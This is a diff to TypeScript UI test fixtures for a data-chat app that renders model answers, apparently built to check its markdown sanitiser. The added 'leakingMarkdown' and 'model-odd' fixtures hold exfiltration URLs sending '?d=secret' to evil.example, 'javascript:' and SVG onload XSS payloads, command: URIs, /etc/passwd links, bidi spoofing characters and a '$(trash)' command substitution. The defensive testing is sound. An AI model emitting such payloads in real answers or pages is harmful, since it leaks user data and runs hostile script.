@@ -193,6 +193,18 @@ const wordsMarkdown = [
   '![](https://bare.example/x.png) ![no](file:///etc/passwd) Download: /api/files/download-pdf/a.pdf',
 ].join('\n\n');
 
+/** What a model may try: to load, to lead elsewhere under another name, to read otherwise than it is. */
+export const leakingMarkdown = [
+  '![chart](http://127.0.0.1:9/a.png?d=secret) ![chart][ref] [![badge](https://127.0.0.1:9/b.png)](https://evil.example/?d=secret)',
+  '[ref]: https://127.0.0.1:9/ref.png "title"',
+  '![vector](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=) ![svg](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E) ![blob](blob:https://x/y)',
+  '<img srcset="http://127.0.0.1:9/c.png 2x"> <picture><source srcset="http://127.0.0.1:9/d.png"></picture> <video poster="http://127.0.0.1:9/e.png" src="http://127.0.0.1:9/e.mp4" autoplay></video>',
+  '<div style="background:url(http://127.0.0.1:9/f.png)">x</div> <style>@import "http://127.0.0.1:9/g.css";</style> <link rel="stylesheet" href="http://127.0.0.1:9/h.css"> <link rel="prefetch" href="http://127.0.0.1:9/i"> <object data="http://127.0.0.1:9/j"></object> <form action="http://127.0.0.1:9/k"><button>Go</button></form>',
+  '[https://good.example/report](https://evil.example/?d=secret) <https://auto.example/path> https://bare.example/path [mail](mailto:a@evil.example?body=secret)',
+  '[cmd](command:trellis.signOut) [cmd](COMMAND:trellis.signOut) [js](java\nscript:alert(1)) [ent](java&#115;cript:alert(1)) [rel](/etc/passwd) [proto](//evil.example/x) [ftp](ftp://evil.example/x) [vscode](vscode://x/y) [ws](wss://evil.example)',
+  'The total is \u202E0021\u202C orders, \u2066not\u2069 less. `\u202Ecode`',
+].join('\n\n');
+
 const context = [
   { language: 'sql', path: 'queries/revenue_by_region_and_month.sql', lines: { from: 3, to: 9 }, text: sql },
   { language: 'python', path: 'load.py', text: 'print("hello")' },
@@ -257,6 +269,32 @@ const tool = (label: string, running = false) => ({
 
 const longReading =
   'total quantity times unit price by customer where region of customers is "East" or "West" and order date is from 1 January 2025 to 12 March 2025, top 10, as a horizontal bar chart';
+
+const modelMarkdown = [
+  'Orders grew by **12.5%** to 50,203 in 2025, about $1,203,551.25 in all; of 2,001 returned ones 37 came back twice.',
+  'By region:\n\n- East: 14,761\n- North: 13,204, or [37 of them](https://example.com/37) returned',
+  '| Region | Share |\n| --- | ---: |\n| East | 29.4% |\n| North | 26.3% |',
+  'Not marked: 137, 37.5, 1,37, x37, `37` and 2025.\n\n```sql\nSELECT 37\n```',
+].join('\n\n');
+/** As a server names them that are in no result. */
+const unverified = ['12.5%', '37', '29.4%', '$1,203,551.25', '37'];
+const modelTools = [
+  'Looking at the tables',
+  'Looking at the table orders_of_all_regions_with_a_name_that_is_long',
+  'Running SQL failed: Binder Error: Referenced column "amont" not found in FROM clause! Candidate bindings: "amount"',
+  'Running SQL · 1,234 rows · 0.8 s',
+  'Drawing a chart',
+].map((label) => ({ ...tool(label), name: 'run_sql', ...(label.includes('failed') ? { failed: true as const } : {}) }));
+const claude = 'claude/claude-sonnet-4-6';
+const manyModels = [
+  { model_id: 'planner', display_name: 'Built-in planner', description: 'No model, no network' },
+  ...Array.from({ length: 100 }, (_, at) => ({
+    model_id: `openrouter/vendor-${at % 9}/model-${at}`,
+    display_name: `A model with a rather long name, number ${at}`,
+    description: '200,000 tokens',
+  })),
+  { model_id: claude, display_name: 'Claude Sonnet 4.6', description: '' },
+];
 
 export const scenes: Record<string, Scene> = {
   first: { state: { ...initialState, connection: { phase: 'idle' } }, ui: noUi },
@@ -441,6 +479,70 @@ export const scenes: Record<string, Scene> = {
       ...connected,
       connection: { phase: 'failed', reason: 'The file sales.duckdb is used by another program.', action: 'openData' },
     },
+    ui: noUi,
+  },
+  model: chat(
+    [
+      asked('Which regions grew?'),
+      answered({
+        ...{ thinking: thoughts, tools: modelTools, content: modelMarkdown, unverified, model: claude, sql },
+        visualizations: [chart('bar', byRegion)],
+      }),
+      asked('Only one'),
+      answered({ content: 'There are 7.', unverified: ['7'], model: 'other/not-listed' }),
+      asked('And by the planner?'),
+      answered({ content: 'There are **50,203** orders.' }),
+    ],
+    { models: manyModels },
+    { choice: { model: claude } },
+  ),
+  'model-running': chat(
+    [
+      asked('Which regions grew?'),
+      answered({
+        ...{ status: 'running', processing: 'thinking', thinking: thoughts, content: 'First I look' },
+        tools: modelTools.map((each, at) => (at === 4 ? { ...each, running: true } : each)),
+      }),
+    ],
+    { models: manyModels, defaultModel: claude },
+  ),
+  'model-failed': chat(
+    [
+      asked('Which regions grew?'),
+      answered({
+        ...{ status: 'failed', tools: modelTools.slice(0, 2), content: 'The East grew by', model: claude },
+        error: failure('The model claude-sonnet-4-6 stopped in the middle of its answer.', {
+          code: 'MODEL_FAILED',
+          debugId: '7f3a-12',
+        }),
+      }),
+    ],
+    { models: manyModels },
+  ),
+  'model-odd': chat(
+    [
+      asked('Odd \u202Ename'),
+      answered({
+        thinking: '\u202Eesrever ![x](http://127.0.0.1:9/t.png) <img src="http://127.0.0.1:9/u.png">',
+        tools: [{ name: '\u202Etool', label: 'Looking at \u202Eeht\u2066 table\n<b>x</b>', running: false }],
+        content: leakingMarkdown,
+        visualizations: [
+          {
+            ...chart(
+              'bar',
+              { ...byRegion, x_axis_label: 'Re\u202Egion', y_axis_label: '\u2066Orders\nof' },
+              'A \u202Etitle',
+            ),
+            id: 'odd',
+          },
+        ],
+        model: 'odd/\u202Emodel\n$(trash)',
+      }),
+    ],
+    { models: [...manyModels, { model_id: 'odd', display_name: '\u202Eddo', description: '' }], defaultModel: 'odd' },
+  ),
+  'models-none': {
+    state: { ...connected, models: connected.models.slice(0, 1) },
     ui: noUi,
   },
   'assistant-empty': { state: { ...connected, ...assistant }, ui: noUi },
